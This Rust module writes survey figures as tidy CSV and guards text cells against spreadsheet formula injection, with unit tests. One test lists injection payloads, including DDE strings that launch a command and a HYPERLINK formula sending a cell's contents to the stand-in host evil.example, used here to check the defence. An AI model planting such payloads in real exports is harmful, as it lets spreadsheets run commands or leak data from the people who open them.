//! Tidy CSV: one figure a line, so that any program can filter and join it.

use csv::{Terminator, WriterBuilder};

/// One figure. Text columns that do not apply are empty.
#[derive(Clone)]
pub struct TidyRow {
    pub wave: String,
    pub team: String,
    /// Who answered: leader or members.
    pub role: String,
    pub dimension: String,
    /// Empty where the figure is of the whole dimension.
    pub item: String,
    /// What the value is: mean, end of an interval, share.
    pub statistic: String,
    /// `None` where the figure is withheld; a value that is not finite is written as empty too.
    pub value: Option<f64>,
    /// Answers behind the value.
    pub n: Option<usize>,
    /// At least so many different people sent them.
    pub people: Option<usize>,
    /// People who were asked.
    pub invited: Option<usize>,
    /// Whether the largest category stands at its cap: the answers may be closer to unanimous.
    pub capped: bool,
}

impl TidyRow {
    /// The columns of text, in their order.
    pub(super) fn texts(&self) -> [&str; 6] {
        [
            &self.wave,
            &self.team,
            &self.role,
            &self.dimension,
            &self.item,
            &self.statistic,
        ]
    }
}

/// The heads of the columns: the texts, then value, n, people, invited and capped.
pub(super) const COLUMNS: [&str; 11] = [
    "wave",
    "team",
    "role",
    "dimension",
    "item",
    "statistic",
    "value",
    "n",
    "people",
    "invited",
    "capped",
];

/// UTF-8 as spreadsheets recognise it.
const BYTE_ORDER_MARK: &[u8] = "\u{feff}".as_bytes();

/// Writes a header and the rows as CSV after RFC 4180, with a byte order mark. A text that a
/// spreadsheet would run as a formula gets a `'` in front; numbers stay numbers.
///
/// # Errors
/// When the writer's buffer cannot be taken back, which memory never refuses.
pub fn tidy_csv(rows: &[TidyRow]) -> Result<Vec<u8>, csv::Error> {
    let mut writer = WriterBuilder::new()
        .terminator(Terminator::CRLF)
        .from_writer(BYTE_ORDER_MARK.to_vec());
    writer.write_record(COLUMNS)?;
    for row in rows {
        let numbers = [
            number(row.value.filter(|value| value.is_finite())),
            number(row.n),
            number(row.people),
            number(row.invited),
            row.capped.to_string(),
        ];
        writer.write_record(row.texts().map(harmless).iter().chain(&numbers))?;
    }
    writer
        .into_inner()
        .map_err(|error| csv::Error::from(error.into_error()))
}

/// The text as a spreadsheet shows it without running it.
fn harmless(text: &str) -> String {
    // The wide forms count where the spreadsheet speaks Japanese or Chinese.
    const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let guard = if text.starts_with(FORMULA) { "'" } else { "" };
    format!("{guard}{text}")
}

/// The number in digits, or nothing.
fn number(value: Option<impl ToString>) -> String {
    value.map_or_else(String::new, |value| value.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(team: &str, value: Option<f64>) -> TidyRow {
        TidyRow {
            wave: "2026 Q3".to_owned(),
            team: team.to_owned(),
            role: "members".to_owned(),
            dimension: "trust".to_owned(),
            item: String::new(),
            statistic: "mean".to_owned(),
            value,
            n: Some(8),
            people: Some(7),
            invited: Some(9),
            capped: false,
        }
    }

    fn written(rows: &[TidyRow]) -> String {
        String::from_utf8(tidy_csv(rows).unwrap()).unwrap()
    }

    fn cells(rows: &[TidyRow]) -> Vec<Vec<String>> {
        let text = written(rows);
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let records = reader.records().map(|record| record.unwrap());
        records
            .map(|record| record.iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn the_file_opens_in_a_spreadsheet() {
        assert_eq!(
            written(&[row("Sales, \"north\"", Some(62.5)), row("Küche", None)]),
            "\u{feff}wave,team,role,dimension,item,statistic,value,n,people,invited,capped\r\n\
             2026 Q3,\"Sales, \"\"north\"\"\",members,trust,,mean,62.5,8,7,9,false\r\n\
             2026 Q3,Küche,members,trust,,mean,,8,7,9,false\r\n"
        );
    }

    #[test]
    fn no_rows_leave_the_header() {
        assert_eq!(written(&[]).lines().count(), 1);
    }

    #[test]
    fn no_text_runs_as_a_formula() {
        for attack in [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
            "+SUM(1,1)",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "=\"a\",\"b\"\r\n=1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "=",
        ] {
            let mut every = row(attack, None);
            for text in [
                &mut every.wave,
                &mut every.role,
                &mut every.dimension,
                &mut every.item,
                &mut every.statistic,
            ] {
                *text = attack.to_owned();
            }
            let [record] = &cells(&[every])[..] else {
                panic!("{attack:?} broke the row");
            };
            for cell in &record[..6] {
                assert_eq!(*cell, format!("'{attack}"));
            }
        }
    }

    #[test]
    fn harmless_text_is_left_alone() {
        for text in ["Trust", "R&D = research", "'quoted'", "a-b", " =1", "été"] {
            assert_eq!(cells(&[row(text, None)])[0][1], text);
        }
    }

    #[test]
    fn a_negative_number_stays_a_number() {
        assert_eq!(cells(&[row("a", Some(-12.25))])[0][6], "-12.25");
        assert_eq!(cells(&[row("a", Some(f64::NAN))])[0][6], "");
    }
}
